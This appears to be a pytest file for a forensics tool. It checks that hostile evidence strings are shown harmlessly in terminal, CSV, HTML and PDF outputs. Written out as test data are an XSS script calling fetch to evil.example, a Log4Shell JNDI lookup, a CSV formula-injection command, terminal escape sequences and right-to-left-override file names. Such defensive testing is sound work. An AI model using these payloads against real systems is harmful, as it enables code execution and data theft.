"""Hostile strings in evidence through every output: nothing runs, breaks the layout or disappears."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from cases.case import Case
from forensics import open_case, run
from forensics.demo.binxml_values import Kind
from forensics.demo.evtx_writer import Event, write_log
from forensics.reporting import issue_all
from timelines.statistics import all_statistics

pytestmark = [
    pytest.mark.skipif(sys.platform == "win32", reason="names that Windows does not have"),
    pytest.mark.skipif(sys.platform == "darwin", reason="its file systems take UTF-8 names only"),
]
LINE = b'192.0.2.1 - - [14/Jan/2026:08:00:01 +0000] "GET /%s HTTP/1.1" 200 5 "-" "%s"\n'
SCRIPT = b"<script>fetch('http://evil.example/')</script>"
VALUES = (
    SCRIPT,
    b"\x1b]0;title\x07\x1b[2J",
    "\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe".encode(),
    b"=cmd|' /C calc'!A0",
    b"\xed\xa0\x80\xff",  # a surrogate as UTF-8 would write it, and a byte that is none
    b"\0\x01",
    b"A" * 10_000,
    b"${jndi:ldap://evil.example/a}",
    b"{{7*7}} #set page(width: 1pt)",
)
NAMES = (
    b"<img src=x onerror=alert(1)>.log",
    b"two\nlines.log",
    "\N{RIGHT-TO-LEFT OVERRIDE}gol.exe".encode(),
    b"\xff\xfe.log",
    b"=1+1.log",
)
SHOWN_RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\ud800-\udfff]")
COMMANDS = (
    "<script>x</script> #panic()",
    "\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe \x1b[2J",
    "=cmd|' /C calc'!A0",
    "B" * 10_000,
)
REDACTED = (
    "csv",
    "jsonl",
    "ecs",
    "timesketch",
)  # text; the others are read by their own tools in test_redacted_exports


def events(folder: Path, name: str) -> Path:
    """An event log in which a web server starts interpreters whose command lines are hostile, so that rules match."""
    made = [
        Event(
            provider="Microsoft-Windows-Sysmon",
            provider_guid="{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
            event_id=1,
            time_ns=(1_768_377_600 + 60 * at) * 10**9,
            record_id=at + 1,
            computer="SRV.example",
            data=(
                ("Image", Kind.UNICODE, "C:\\Windows\\System32\\cmd.exe"),
                ("CommandLine", Kind.UNICODE, f"cmd.exe /c {text}"),
                ("ParentImage", Kind.UNICODE, "C:\\Apache24\\bin\\httpd.exe"),
                ("User", Kind.UNICODE, text[:300]),
            ),
        )
        for at, text in enumerate(COMMANDS)
    ]
    write_log(folder / name, "Microsoft-Windows-Sysmon/Operational", made)
    return folder / name


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    """A folder with `evidence` of hostile names and texts and the `case` made of it, with all its summaries."""
    root = tmp_path_factory.mktemp("hostile")
    folder = os.fsencode(root / "evidence")
    os.mkdir(folder)
    for at, name in enumerate(NAMES):
        with open(os.path.join(folder, name), "wb") as handle:
            handle.writelines(LINE % (value.replace(b" ", b"%20"), value) for value in VALUES)
            handle.write(b"%d\n" % at)  # each file differs, so none is a duplicate
    events(root / "evidence", "<b>=Sysmon.evtx")
    run([root / "evidence"], root / "case", workers=1)
    issue_all(Case.open(root / "case"), ("en", "fr", "ar"), "2026-02-01", lambda done: None)
    return root


def tame(text: str) -> bool:
    return not SHOWN_RAW.findall(text)


def cells(text: str) -> list[str]:
    csv.field_size_limit(10**6)
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def formulas(text: str) -> list[str]:
    return [cell for cell in cells(text) if cell[:1] in tuple("=+@\t\r") or (cell[:1] == "-" and cell != "-")]


@pytest.mark.usefixtures("counted_once")
def test_what_a_terminal_shows(hostile, athar):
    case = hostile / "case"
    rows = open_case(case).timeline()
    record = rows[rows.family == "windows/sysmon"].row_id
    asked = (
        *(["timeline", case, *more] for more in ([], ["--lang", "ar"], ["--format", "jsonl"])),
        ["search", case, "evil"],
        *(["show", case, row, *more] for row in (rows.row_id.iloc[0], *record) for more in ([], ["--json"])),
        ["findings", case],
        *(["case", "show", case, more] for more in ("--files", "--problems")),
        ["stats", case],
        *(["stats", case, name, *more] for name in all_statistics() for more in ([], ["--format", "jsonl"])),
        ["verify", case],
    )
    for arguments in asked:
        ran = athar(*arguments)
        assert ran.code == 0, arguments
        assert tame(ran.out + ran.err), arguments


@pytest.mark.usefixtures("counted_once")
def test_tables_hold_no_formula(hostile, athar):
    case = hostile / "case"
    for arguments in (["timeline", case], *(["stats", case, name] for name in all_statistics())):
        ran = athar(*arguments, "--format", "csv")
        assert (ran.code, formulas(ran.out)) == (0, []), arguments
    annexes = sorted((case / "reports").glob("annex-*.csv"))
    assert len(annexes) == 3
    for path in annexes:
        text = path.read_text("utf-8-sig")
        assert formulas(text) == []
        assert tame(text.replace("\u2066", "").replace("\u2069", ""))
        assert "B" * 10_000 in text  # whole, however long
        assert "jndi" in text


def test_pages_and_charts_run_nothing_and_lose_nothing(hostile):
    pages = [path.read_text("utf-8") for path in (hostile / "case" / "reports").glob("*.html")]
    assert len(pages) == 3
    for page in pages:
        assert tame(page)
        assert "<script" not in page
        assert "<img" not in page
        assert "jndi" in page  # the finding is there, its text harmless
        charts = re.findall(r"<svg.*?</svg>", page, re.DOTALL)
        assert len(charts) > 1  # of the case, and of a finding
        assert not [
            chart for chart in charts if re.search(r"<(?!/?(svg|title|desc|g|path|line|rect|text|style)\b)", chart)
        ]


def test_pdf_pages_hold_the_text(hostile, tmp_path):
    if shutil.which("pdftotext") is None:
        pytest.skip("pdftotext is not installed")
    made = sorted((hostile / "case" / "reports").glob("*.pdf"))
    assert len(made) == 3
    for path in made:
        text = subprocess.run(["pdftotext", path, "-"], capture_output=True, check=True).stdout.decode()
        joined = re.sub(r"\s", "", text)
        assert "#panic()" in joined
        assert "\u27e8U+202E\u27e9" in joined or "U+202E" in joined
        assert not re.search("[\x00-\x08\x0e-\x1f\x7f-\x9f]", text)


@pytest.mark.parametrize("form", REDACTED)
def test_redacted_exports(hostile, tmp_path, athar, form):
    out = tmp_path / ("out.csv" if form == "csv" else "out.jsonl")
    ran = athar("export", hostile / "case", "--to", form, "-o", out, "--redact", "court")
    assert ran.code == 0, ran.err
    files = [path for path in tmp_path.rglob("*") if path.is_file()]
    for path in files:
        text = path.read_text("utf-8-sig")
        assert tame(text), path.name
        if path.suffix == ".csv":
            assert formulas(text) == []
        else:
            assert all(json.loads(line) is not None for line in text.splitlines())


def test_carved_records(tmp_path, athar):
    log = events(tmp_path, "log.evtx").read_bytes()
    name = "<img src=x>\N{RIGHT-TO-LEFT OVERRIDE}\x1b[2J.raw"
    (tmp_path / name).write_bytes(bytes(700) + log[4096:] + b"<script>" * 99)
    Case.create(tmp_path / "case")
    for more in ([], ["--json"], ["--case", tmp_path / "case"]):
        ran = athar("carve", tmp_path / name, "--quiet", *more)
        assert ran.code == 0, ran.err
        assert tame(ran.out + ran.err)
    rows = open_case(tmp_path / "case").timeline()
    assert len(rows) == len(COMMANDS)
    for row in rows.row_id:
        ran = athar("show", tmp_path / "case", row)
        assert ran.code == 0
        assert tame(ran.out)
